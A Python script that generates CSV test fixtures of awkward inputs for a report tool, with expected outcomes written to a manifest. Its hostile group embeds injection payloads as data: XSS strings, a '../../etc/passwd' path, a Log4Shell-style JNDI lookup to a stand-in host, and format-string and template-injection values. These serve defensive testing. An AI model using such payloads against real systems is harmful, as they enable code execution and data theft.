#!/usr/bin/env python3
"""Writes the awkward inputs of this folder and manifest.json, which says what becomes of each.

    python3 Tests/RapportTests/BadInputs/generate.py

Run it again after a change; the output is the same bytes every time. All names are invented. The
numbers are those of the catalogue of bad inputs that README.md describes; a letter behind a number
is a further case of the same row. To add one: a call of `case` below, in its group.
"""
import gzip, io, json, pathlib, struct, zipfile

HERE = pathlib.Path(__file__).resolve().parent
COLUMNS = ["customer_id", "name", "city", "last_contact"]
PEOPLE = [
    ["H10", "Marit Solberg", "Bergen", "2024-02-06"],
    ["H11", "Tomás Quiroga", "Rosario", "2024-05-21"],
    ["H12", "Priya Raman", "Chennai", "2024-09-02"],
]
CASES = []


def case(file, content, decision, why="", **expected):
    """Writes one fixture and notes what is expected of it."""
    data = content.encode("utf-8") if isinstance(content, str) else content
    path = HERE / file
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    entry = {"file": file, "cat": file.split("/")[0], "decision": decision, "bytes": len(data)}
    if decision in ("refuse", "retry"):
        entry["exit"] = 65 if decision == "refuse" else 75
    entry.update(expected)
    if why:
        entry["why"] = why
    CASES.append(entry)


def table(rows=PEOPLE, columns=COLUMNS, sep=",", eol="\n"):
    return "".join(sep.join(row) + eol for row in [columns] + rows)


def good(**more):
    """What a file of the three people above comes to."""
    return {"rows": 3, "columns": COLUMNS, **more}


def gz(text):
    out = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=out, mtime=0) as f:
        f.write(text.encode("utf-8"))
    return out.getvalue()


def zipped(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in members:
            z.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), text)
    return out.getvalue()


def encodings():
    case("enc/02-bom-before-quoted-header.csv",
         '\ufeff"customer_id","name","city","last_contact"\n' + table().split("\n", 1)[1],
         "accept", "the quote behind the mark still opens a field", **good())
    case("enc/04-utf16be-bom.csv", b"\xfe\xff" + table(sep="\t", eol="\r\n").encode("utf-16-be"),
         "accept", **good(cell=[1, 1, "Tomás Quiroga"]))
    case("enc/06-windows-1252.csv",
         table([["H10", "Café “Zwölf”", "Köln", "2024-02-06"], ["H11", "Prix – 5 €", "Lyon", "2024-05-21"]])
         .encode("cp1252"), "accept-warn", "bytes 0x80 to 0x9F", rows=2, columns=COLUMNS,
         cell=[0, 1, "Café “Zwölf”"])
    case("enc/06b-windows-1252-undefined-byte.csv",
         table([["H10", "Söre@n", "Malmö", "2024-02-06"], ["H11", "Zoë’s", "Gent", "2024-05-21"]])
         .encode("cp1252").replace(b"@", b"\x81"),
         "accept-warn", "0x81 is nothing in Windows-1252: one cell suffers, not the file",
         rows=2, columns=COLUMNS, cell=[1, 1, "Zoë’s"])
    case("enc/08-gbk.csv",
         table([["H10", "林晓月", "上海", "2024-02-06"], ["H11", "周国强", "广州", "2024-05-21"],
                ["H12", "欧阳静", "成都", "2024-09-02"]]).encode("gbk"),
         "accept-warn", "not to be told from its neighbours for certain: the guess is named", **good())
    case("enc/08b-koi8-r.csv",
         table([["H10", "Ирина Белова", "Тверь", "2024-02-06"], ["H11", "Олег Фомин", "Пермь", "2024-05-21"],
                ["H12", "Анна Жукова", "Омск", "2024-09-02"]]).encode("koi8-r"),
         "accept-warn", **good())
    case("enc/10-nul-in-a-cell.csv", table().replace("Marit ", "Marit\0 "), "accept-warn",
         "the NUL goes, the text behind it stays", **good(cell=[0, 1, "Marit Solberg"]))
    case("enc/12-mojibake.csv", table().replace("Tomás", "TomÃ¡s"), "accept-warn",
         "valid text, probably decoded twice: said, never repaired", **good(cell=[1, 1, "TomÃ¡s Quiroga"]))
    case("enc/13b-utf32be.csv", b"\0\0\xfe\xff" + table().encode("utf-32-be"), "refuse")
    case("enc/14-ebcdic.csv", table().replace("á", "a").encode("cp037"), "refuse")
    case("enc/14b-utf7.csv", "+/v8-" + table().replace("á", "+AOE-"), "refuse")


def delimiters():
    case("delim/02-tab.csv", table(sep="\t"), "accept", **good())
    case("delim/04-colon.csv", table(sep=":"), "accept-warn", "only because the header names then match", **good())
    case("delim/06-start-of-heading.csv", table(sep="\x01"), "accept-warn", "as Hive writes", **good())
    case("delim/08-semicolon-with-commas.csv",
         "customer_id;name;revenue;last_contact\n"
         "H10;Solberg, Marit;12.480,50;2024-02-06\n"
         "H11;Quiroga, Tomás, hijo;980,00;2024-05-21\n"
         "H12;Raman, Priya;3.020,75;2024-09-02\n",
         "accept", "more commas than semicolons; the width of the header decides",
         rows=3, columns=["customer_id", "name", "revenue", "last_contact"], cell=[0, 1, "Solberg, Marit"])
    case("delim/10-bom-quoted-sep-line.csv", '\ufeff"sep=,"\r\n' + table(eol="\r\n"), "accept", **good())
    case("delim/12-one-column.csv", "customer_id\nH10\nH11;H13\nH12\n", "refuse-or-flag",
         "one column of three rows, or refused for want of more: never no rows, never two columns", rows=3)
    case("delim/14-space-before-quote.csv",
         'customer_id, name, city, last_contact\n'
         'H10, "Solberg, Marit", Bergen, 2024-02-06\n'
         'H11, "Quiroga, Tomás", Rosario, 2024-05-21\n'
         'H12, "Raman, Priya", Chennai, 2024-09-02\n', "accept", **good(cell=[0, 1, "Solberg, Marit"]))
    case("delim/16-trailing-delimiter.csv", table(eol=",\n"), "accept", "one empty unnamed column; nothing shifts",
         **good(cell=[0, 0, "H10"]))
    case("delim/18-none.csv", "Dear colleagues\nplease find the list attached\nkind regards\n", "refuse",
         "one column where at least a key and a name are needed")


def quoting():
    case("quote/02-delimiters-and-quotes-in-quotes.csv",
         'customer_id,name,city,last_contact\n'
         'H10,"Solberg, Marit ""Max""",Bergen,2024-02-06\n'
         'H11,"""Tomás""",Rosario,2024-05-21\n'
         'H12,"Raman,,",Chennai,2024-09-02\n', "accept", **good(cell=[0, 1, 'Solberg, Marit "Max"']))
    case("quote/04-inch-mark.csv", table().replace("Marit Solberg", 'Pipework 3" & 5"'), "accept",
         "a quote inside an unquoted field is itself", **good(cell=[0, 1, 'Pipework 3" & 5"']))
    case("quote/06-open-at-end-of-file.csv",
         'customer_id,name,city,last_contact\n'
         'H10,Marit Solberg,Bergen,2024-02-06\nH11,Tomás Quiroga,Rosario,2024-05-21\n'
         'H12,"Priya Raman,Chennai,2024-09-02\n', "quarantine", "opened on line 4", rows=2, quarantined=1)
    case("quote/08-single-quotes.csv",
         "'customer_id','name','city','last_contact'\n"
         "'H10','Solberg, Marit','Bergen','2024-02-06'\n"
         "'H11','Quiroga, Tomás','Rosario','2024-05-21'\n"
         "'H12','D''Souza, Priya','Chennai','2024-09-02'\n", "accept-warn",
         "every field is wrapped", **good(cell=[0, 1, "Solberg, Marit"]))
    case("quote/10-curly-quotes.csv", table().replace("Marit Solberg", "“Marit” Solberg"), "accept",
         "they are data", **good(cell=[0, 1, "“Marit” Solberg"]))
    case("quote/12-large-field.csv",
         'customer_id,name,notes,last_contact\nH10,Marit Solberg,"' + "She wrote at length. \n" * 6400
         + '",2024-02-06\nH11,Tomás Quiroga,short,2024-05-21\n', "accept",
         "140 kB in a field, 6,400 lines: large, and far below the cap", rows=2,
         columns=["customer_id", "name", "notes", "last_contact"], cell=[1, 0, "H11"])


def rows():
    case("rows/02-long-row.csv", table().replace("Tomás Quiroga", "Quiroga, Tomás"), "quarantine",
         "one comma too many: the row is set aside, nothing shifts", rows=2, quarantined=1)
    case("rows/04-blank-lines.csv",
         "\n  \n" + table().replace("H11", "\n\t \nH11") + "\n\n   \n", "accept", **good())
    case("rows/06-cr-only.csv", table(eol="\r"), "accept", **good())
    case("rows/08-cr-cr-lf.csv", table(eol="\r\r\n"), "accept", **good())
    case("rows/10-comment-lines.csv", "# exported by nightly job 7\n# all accounts\n" + table(), "accept-warn",
         "before the header only; what was skipped is said", **good())
    case("rows/12-preamble.csv", "Harbour Supplies: active accounts\nAs of 03.09.2024\n\n" + table(), "accept-warn",
         "the header is the line whose names match", **good())
    case("rows/14-totals.csv", table() + "Total,3,,\n", "accept-warn", "Total is no customer", **good())
    case("rows/16-header-repeated.csv",
         table() + table([["H13", "Joris Peeters", "Gent", "2024-10-11"]]), "accept-warn",
         "two exports one behind the other", rows=4, columns=COLUMNS)
    case("rows/18-rows-affected.csv", table() + "\n(3 rows affected)\n", "accept-warn", **good())


def headers():
    case("hdr/02-key-missing.csv", "city,last_contact,phone\nBergen,2024-02-06,55 12\nRosario,2024-05-21,341 9\n",
         "refuse", "neither key nor name: the headers seen are listed")
    case("hdr/04-case-and-punctuation.csv",
         table(columns=["CUSTOMER ID", " Name ", "City", "Last-Contact"]), "accept", rows=3,
         columns=["CUSTOMER ID", "Name", "City", "Last-Contact"], cell=[2, 3, "2024-09-02"])
    case("hdr/06-localised-fr.csv",
         "N° client;Nom;Ville;Dernier contact\nH10;Maison Delorme;Nîmes;06/02/2024\n"
         "H11;Ateliers Roussel;Brest;21/05/2024\n", "accept", rows=2,
         columns=["N° client", "Nom", "Ville", "Dernier contact"], cell=[0, 3, "2024-02-06"])
    case("hdr/08-invisible-characters.csv",
         table(columns=["customer\u00a0id", "\u200bname", "city\u200b", "last\u00a0contact"]), "accept", rows=3,
         cell=[2, 3, "2024-09-02"])
    case("hdr/10-no-header.csv", "501,Northgate Tools,2024-02-06,120.50\n502,Lark & Sons,2024-05-21,88.00\n", "refuse",
         "the first customer must not vanish")
    case("hdr/12-two-header-rows.csv",
         "Account,,,Activity\n" + table(), "accept-warn", "groups above, names below: the row that matches", **good())
    case("hdr/14-dynamics.csv",
         "(Do Not Modify) Account,(Do Not Modify) Row Checksum,(Do Not Modify) Modified On,Account Name,Main Phone\n"
         "5f2a,Qk3=,2024-09-02 08:15,Northgate Tools,55 12\n77c1,Zu8=,2024-09-02 08:15,Lark & Sons,55 13\n",
         "accept", "when a record was changed is no contact", rows=2,
         columns=["(Do Not Modify) Account", "(Do Not Modify) Row Checksum", "(Do Not Modify) Modified On",
                  "Account Name", "Main Phone"])


def dates():
    def column(*cells):
        return "customer_id,last_contact\n" + "".join(
            f'H{10 + i},"{cell}"\n' if "," in cell else f"H{10 + i},{cell}\n" for i, cell in enumerate(cells))

    case("date/02-day-first-provable.csv", column("03/04/2024", "21/05/2024", "02/09/2024"), "accept", rows=3,
         cell=[0, 1, "2024-04-03"])
    case("date/04-ambiguous.csv", column("06/02/2024", "05/03/2024", "09/02/2024"), "refuse-or-flag",
         "nothing decides; never the machine's locale")
    case("date/06-two-digit-years.csv", column("06/02/24", "21/05/23", "30/09/99", "17/11/22"), "accept-warn",
         rows=4, cell=[2, 1, "1999-09-30"])
    # Day first, two-digit years, sorted: year first parses as well, and puts a third into the future.
    shop = ["%02d/%02d/%02d" % (1 + (7 * i) % 28, 1 + i % 12, 19 + i // 12) for i in range(48)]
    case("date/06b-day-first-that-parses-year-first.csv", column(*shop), "accept-warn", rows=48,
         cell=[0, 1, "2019-01-01"])
    case("date/08-epoch-milliseconds.csv", column("1707220800000", "1716292800000", "1725278400000"), "accept-warn",
         rows=3, cell=[0, 1, "2024-02-06"])
    case("date/08b-epoch-microseconds.csv", column("1707220800000000", "1716292800000000"), "accept-warn",
         rows=2, cell=[0, 1, "2024-02-06"])
    case("date/10-zones.csv",
         column("2024-03-31T12:30:00+02:00", "2018-11-04", "2024-10-27 01:30:00 UTC", "2024-03-31 02:30:00"),
         "accept", "a date without a time is that day in every zone, also where midnight is skipped", rows=4,
         cell=[1, 1, "2018-11-04"])
    case("date/12-future.csv", column("2024-02-06", "2091-05-21", "2024-09-02"), "accept-warn",
         "not a contact yet", rows=3)
    case("date/14-month-names.csv",
         column("6 February 2024", "Feb 6th, 2024", "6. Februar 2024", "6 février 2024", "6 de febrero de 2024",
                "6 febbraio 2024", "6 lutego 2024", "6. helmikuuta 2024", "6 Şubat 2024", "6 февраля 2024 г.",
                "2024年2月6日", "Tue, 06 Feb 2024"), "accept", rows=12, cell=[9, 1, "2024-02-06"])
    case("date/16-halves-of-the-day.csv",
         column("2024-02-06 12:05 AM", "2024-05-21 4:05\u202fPM", "2024-09-02 11:59 p.m."), "accept", rows=3,
         cell=[0, 1, "2024-02-06"])
    case("date/18-odd-clocks.csv",
         column("2016-12-31T23:59:60", "2024-05-21T24:00", "2024-09-02T25:00"), "quarantine",
         "a leap second is a second, 24:00 the next day, 25:00 nothing", rows=2, quarantined=1,
         cell=[1, 1, "2024-05-22"])


def numbers():
    case("num/02-currencies.csv",
         'customer_id,revenue\nH10,"$1,250.00"\nH11,"€1,250.00"\nH12,(99.90)\nH13,5.00-\nH14,USD 12\n', "accept-warn",
         "several currencies are never added", rows=5)
    case("num/02b-one-currency.csv",
         "customer_id;revenue\nH10;1.250,00 €\nH11;-99,90 €\nH12;5,00- €\nH13;(12,50 €)\n", "accept", rows=4,
         cell=[0, 1, "1250.00"])
    case("num/05-ids-in-scientific-notation.csv",
         "customer_id,name\n1.23457E+11,Marit Solberg\n1.23457E+11,Priya Raman\n9.87654E+11,Tomás Quiroga\n",
         "refuse", "a spreadsheet destroyed the keys: two customers have become one")
    case("num/07-long-ids.csv",
         "customer_id,name\n9007199254740993,Marit Solberg\n9007199254740992,Priya Raman\n"
         "18446744073709551617,Tomás Quiroga\n", "accept", "beyond 2^53 and 2^64: keys are text", rows=3,
         distinct_ids=3, cell=[0, 0, "9007199254740993"])
    case("num/09-normalisation-of-ids.csv",
         "customer_id,name\nCAF\u00c9-1,Marit Solberg\nCAFE\u0301-1,Priya Raman\nH\u200b12,Tomás Quiroga\n"
         "\u041d12,Joris Peeters\n", "accept-warn",
         "composed and decomposed, a zero width, a Cyrillic Н: told apart on purpose or joined on purpose, and said")


def relations():
    case("rel/03-customers.csv", "customer_id,name\nH10,Marit Solberg\nH11,Priya Raman\n", "accept", rows=2)
    case("rel/03-all-orphans.csv",
         "interaction_id,customer_id,date\nT1,K77,2024-02-06\nT2,K78,2024-05-21\nT3,K79,2024-09-02\n", "accept",
         "fine alone; joined with its customers, nothing joins: that run is refused", rows=3)


def files():
    case("file/02-header-only-customers.csv", table([]), "accept-warn", rows=0, columns=COLUMNS)
    case("file/02b-header-only-interactions.csv", "interaction_id,customer_id,date,type\n", "refuse",
         "no interactions would mean that everybody is neglected")
    case("file/04-bom-only.csv", b"\xef\xbb\xbf", "refuse")
    whole = table() + "H13,Joris Peeters,Ñuñoa,2024-10-11\n"
    case("file/06-cut-in-a-character.csv", whole.encode("utf-8").split("Ñuñ".encode())[0] + b"\xc3", "retry",
         "the last byte opens a character of two", rows=3)
    case("file/08-gzip.csv.gz", gz(table()), "accept", **good())
    case("file/10-gzip-truncated.csv.gz", gz(table())[:-14], "refuse")
    case("file/12-zip-one-member.zip", zipped([("export/customers.csv", table())]), "refuse-or-map",
         "refused with a hint, or its one member read and said")
    case("file/12b-zip-two-members.zip",
         zipped([("customers.csv", table()), ("calls.csv", "customer_id,date\nH10,2024-02-06\n")]), "refuse")
    case("file/14-xlsx.csv",
         zipped([("[Content_Types].xml", "<Types/>"), ("_rels/.rels", "<Relationships/>"),
                 ("xl/workbook.xml", "<workbook/>"), ("xl/worksheets/sheet1.xml", "<worksheet/>")]), "refuse",
         "a workbook under a false name")
    case("file/16-json-error.csv", '{"error":{"code":403,"message":"export quota exceeded"}}\n', "refuse")
    case("file/18-lfs-pointer.csv",
         "version https://git-lfs.github.com/spec/v1\noid sha256:" + "4d7a" * 16 + "\nsize 183224\n", "refuse")
    case("file/20-cut-in-a-row.csv", whole.rsplit(",", 2)[0], "retry",
         "the last record has two of four fields and no line end")


def hostile():
    case("hostile/02-markup.csv",
         'customer_id,name,notes\n'
         'H10,<script>alert(1)</script>,hello\n'
         'H11,"<img src=x onerror=""alert(1)"">",hello\n'
         "H12,</td></table><h1>Tomás,'\"&<>\n"
         'H13,Joris &amp; Söhne,"<a href=""javascript:alert(1)"">x</a>"\n', "accept", rows=4,
         columns=["customer_id", "name", "notes"], cell=[0, 1, "<script>alert(1)</script>"])
    case("hostile/04-directions.csv",
         "customer_id,name\nH10,Marit\u202eGREBLOS\nH11,\u2067Quiroga\u2069\nH12,Pri\u200bya\n"
         "H13,\u0420riya\n", "accept-warn", "overrides, isolates, zero width, a Cyrillic Р", rows=4)
    case("hostile/06-marks-after-delimiters.csv",
         "customer_id,name,city,last_contact\nH10,\u0301Marit,\u200dBergen,2024-02-06\n"
         "H11,\"Tomás\",Rosario,2024-05-21\n\u0301H12,Priya,Chennai,2024-09-02\n", "accept",
         "as characters the commas would be gone", **good(cell=[0, 3, "2024-02-06"]))
    case("hostile/08-paths.csv",
         "customer_id,name\n../../etc/passwd,Marit\n/tmp/x,Tomás\nCON,Priya\nA/B,Joris\na/b,Ilse\n" + "L" * 300
         + ",Ruth\n", "accept-warn", "keys are no file names; two of them differ by case alone", rows=6, cell=[0, 0, "../../etc/passwd"])
    case("hostile/10-templates.csv",
         "customer_id,name\nH10,{{name}}\nH11,${jndi:ldap://x.example/a}\nH12,%s%n%x\nH13,{% include 'x' %}\n"
         "H14,<%= 7*7 %>\nH15,{{{raw}}}\n", "accept", "values are never templates", rows=6,
         cell=[0, 1, "{{name}}"])


for group in (encodings, delimiters, quoting, rows, headers, dates, numbers, relations, files, hostile):
    group()

# A fixture that no case writes any more goes.
known = {HERE / entry["file"] for entry in CASES}
for path in HERE.glob("*/*"):
    if path.is_file() and path not in known:
        path.unlink()
manifest = {
    "decisions": {
        "accept": "exit 0, silent",
        "accept-warn": "exit 0, one line on standard error, a data-quality line in the report",
        "quarantine": "the bad records go to the rejects with line and reason; their customers are unknown",
        "refuse": "no report is replaced, exit 65",
        "refuse-or-flag": "refused unless the user supplied the missing fact, or read with a warning",
        "refuse-or-map": "refused unless a mapping is given, or read with a warning",
        "retry": "exit 75; the earlier report stays",
    },
    "cases": CASES,
}
(HERE / "manifest.json").write_text(json.dumps(manifest, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
print(f"{len(CASES)} fixtures")
